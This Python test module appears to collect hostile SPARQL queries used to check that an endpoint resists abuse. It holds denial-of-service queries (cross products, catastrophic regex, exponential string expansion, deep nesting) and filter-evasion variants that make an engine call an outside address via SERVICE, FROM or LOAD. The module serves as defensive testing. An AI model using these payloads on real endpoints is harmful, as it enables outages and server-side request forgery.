"""What would an attacker ask? The twelve queries that harm an engine that stands open, nests of every kind, and calls.

Measured first on engines without limits (a crash, a hang, or gigabytes each); here each must be ended from outside.
"""

from collections.abc import Iterator
from urllib.parse import quote

__all__ = ["HARMFUL", "NESTS", "callable_forms", "calling"]

_THREE = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
_STRETCH = "'$0$0$0$0$0$0$0$0$0$0'"

HARMFUL = {
    "cross product": f"SELECT * {{ {_THREE} }}",
    "counted cross product": f"SELECT (COUNT(*) AS ?n) {{ {_THREE} }}",
    "sorted cross product": f"SELECT * {{ {_THREE} }} ORDER BY ?c ?f ?i",
    "distinct cross product": f"SELECT DISTINCT ?a ?d ?g {{ {_THREE} }}",
    "grouped cross product": f"SELECT ?a (GROUP_CONCAT(?f) AS ?x) {{ {_THREE} }} GROUP BY ?a",
    "constructed cross product": f"CONSTRUCT {{ ?a ?e ?i }} {{ {_THREE} }}",
    "endless path": "SELECT (COUNT(*) AS ?n) { ?a (!<x:y>|^!<x:y>)* ?b . ?c (!<x:y>|^!<x:y>)* ?d }",
    "patterns": f"SELECT (COUNT(*) AS ?n) {{ {_THREE} FILTER(REGEX(STR(?a), '(a*)*b')) }}",
    "stretched text": "SELECT (STRLEN(" + "REPLACE(" * 10 + "'xxxxxxxxxx'" + f", '.', {_STRETCH})" * 10 + ") AS ?n) {}",
    "negated join": "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER NOT EXISTS { ?a ?x ?d . ?d ?y ?z . ?z ?u ?v . ?v ?w ?c } }",
    "many operators": "SELECT * { FILTER(" + "1||" * 20_000 + "1) }",
    "many unions": "SELECT * {" + "{}UNION" * 7_000 + "{}}",
}
"""Past all of them the engine takes minutes or more memory than there is."""

NESTS = {
    "{": lambda depth: "SELECT * " + "{" * depth + "}" * depth,
    "(": lambda depth: "SELECT * { FILTER" + "(" * depth + "1" + ")" * depth + " }",
    "!": lambda depth: "SELECT * { FILTER(" + "!" * depth + "1) }",
    "-": lambda depth: "SELECT (" + "-" * depth + "1 AS ?x) {}",
    "[": lambda depth: "SELECT * { " + "[<x:p> " * depth + "1" + "]" * depth + " }",
    "list": lambda depth: "SELECT * { ?s ?p " + "(" * depth + "1" + ")" * depth + " }",
    "EXISTS": lambda depth: "SELECT * { " + "FILTER EXISTS { " * depth + "}" * depth + " }",
    "OPTIONAL": lambda depth: "SELECT * { " + "OPTIONAL { " * depth + "}" * depth + " }",
    "UNION": lambda depth: "SELECT * { " + "{} UNION " * depth + "{} }",
    "subselect": lambda depth: "SELECT * { " + "{ SELECT * { " * depth + "} }" * depth + " }",
    "path": lambda depth: "SELECT * { ?s " + "(" * depth + "<x:p>" + ")*" * depth + " ?o }",
    "^": lambda depth: "SELECT * { ?s " + "^" * depth + "<x:p> ?o }",
    "/": lambda depth: "SELECT * { ?s " + "<x:p>/" * depth + "<x:p> ?o }",
    "||": lambda depth: "SELECT * { FILTER(" + "1||" * depth + "1) }",
    "+": lambda depth: "SELECT (" + "1+" * depth + "1 AS ?x) {}",
    "IF": lambda depth: "SELECT (" + "IF(1," * depth + "1" + ",1)" * depth + " AS ?x) {}",
    "<<": lambda depth: "SELECT * { " + "<<" * depth + "?s ?p ?o" + ">> ?p ?o" * depth + " }",
    ";": lambda depth: "SELECT * { ?s ?p ?o " + "; ?p ?o " * depth + "}",
    "VALUES": lambda depth: "SELECT * { VALUES ?x { " + "1 " * depth + "} }",
    "CONSTRUCT": lambda depth: "CONSTRUCT { " + "[<x:p> " * depth + "1" + "]" * depth + " } {}",
    "'": lambda depth: "SELECT * { ?s ?p '" + "\\\\" * depth + "' }",
    "unclosed": lambda depth: "SELECT * " + "{ {" * depth,
}


def calling(address: str) -> Iterator[str]:
    """Yield queries that would have an engine call an address, or be refused for trying."""
    host = address.removeprefix("http://")
    service = f"SERVICE <{address}> {{ ?s ?p ?o }}"
    yield from (
        f"SELECT * {{ {service} }}",
        f"SELECT * {{ SERVICE SILENT <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ service <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SeRvIcE sIlEnT <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICESILENT <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE#a remark\n<{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE\t\r\n <{address}>{{?s ?p ?o}} }}",
        f"SELECT * {{ SERVICE<{address}>{{?s ?p ?o}} }}",
        f"PREFIX h: <{address}> SELECT * {{ SERVICE h: {{ ?s ?p ?o }} }}",
        f"PREFIX h: <{address}> SELECT * {{ SERVICE h:more {{ ?s ?p ?o }} }}",
        f"BASE <{address}> SELECT * {{ SERVICE <> {{ ?s ?p ?o }} }}",
        f"BASE <{address}> SELECT * {{ SERVICE <more> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(<{address}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?e {{ <{address}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(IRI('{address}') AS ?e) SERVICE SILENT ?e {{ ?s ?p ?o }} }}",
        f"SELECT * {{ OPTIONAL {{ {service} }} }}",
        f"SELECT * {{ {{}} UNION {{ {service} }} }}",
        f"SELECT * {{ ?s ?p ?o MINUS {{ {service} }} }}",
        f"SELECT * {{ FILTER EXISTS {{ {service} }} }}",
        f"SELECT * {{ FILTER NOT EXISTS {{ {service} }} }}",
        f"SELECT (EXISTS {{ {service} }} AS ?x) {{}}",
        f"SELECT * {{ BIND(EXISTS {{ {service} }} AS ?x) }}",
        f"SELECT * {{ {{ SELECT * {{ {service} }} }} }}",
        f"SELECT * {{ GRAPH ?g {{ {service} }} }}",
        f"SELECT * {{ ?s ?p 'SERVICE' . {service} }}",
        f"SELECT * {{ ?s ?p '\\'' . {service} }}",
        f'SELECT * {{ ?s ?p """"" . {service} }} # """',
        f"SELECT * {{ FILTER(1 <2 #>\n) {service} }}",
        f"SELECT * {{ FILTER(?a<'>' ) {service} #' \n }}",
        f"SELECT * {{ FILTER(trueSERVICE) }} #<{address}>",
        f"SELECT * {{ \\u0053ERVICE <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE <http://\\u0031{host[1:]}> {{ ?s ?p ?o }} }}",
        f"ASK {{ {service} }}",
        f"CONSTRUCT {{ ?s ?p ?o }} {{ {service} }}",
        f"DESCRIBE ?s {{ {service} }}",
        f"SELECT * FROM <{address}> {{ ?s ?p ?o }}",
        f"SELECT * FROM NAMED <{address}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"SELECT * FROM#\n<{address}> {{ ?s ?p ?o }}",
        f"BASE <{address}> SELECT * FROM <more> {{ ?s ?p ?o }}",
        f"PREFIX h: <{address}> DESCRIBE ?s FROM h:more {{ ?s ?p ?o }}",
        f"SELECT * {{ GRAPH <{address}> {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{address}>",
        f"LOAD <{address}>",
        f"LOAD SILENT <{address}> INTO GRAPH <x:g>",
        f"INSERT {{ ?s ?p ?o }} WHERE {{ {service} }}",
        f"INSERT DATA {{ <x:a> <x:b> <x:c> }} ; LOAD <{address}>",
    )


def callable_forms(address: str, query: str) -> Iterator[tuple[str, str, dict[str, str]]]:
    """Yield the ways in which a query is sent: method, address with parameters, and a form."""
    yield "GET", f"?query={quote(query)}", {}
    yield "POST", "", {"query": query}
    yield "POST", f"?default-graph-uri={quote(address)}", {"query": query}
    yield "POST", f"?named-graph-uri={quote(address)}", {"query": query}
    yield "POST", "", {"update": query}
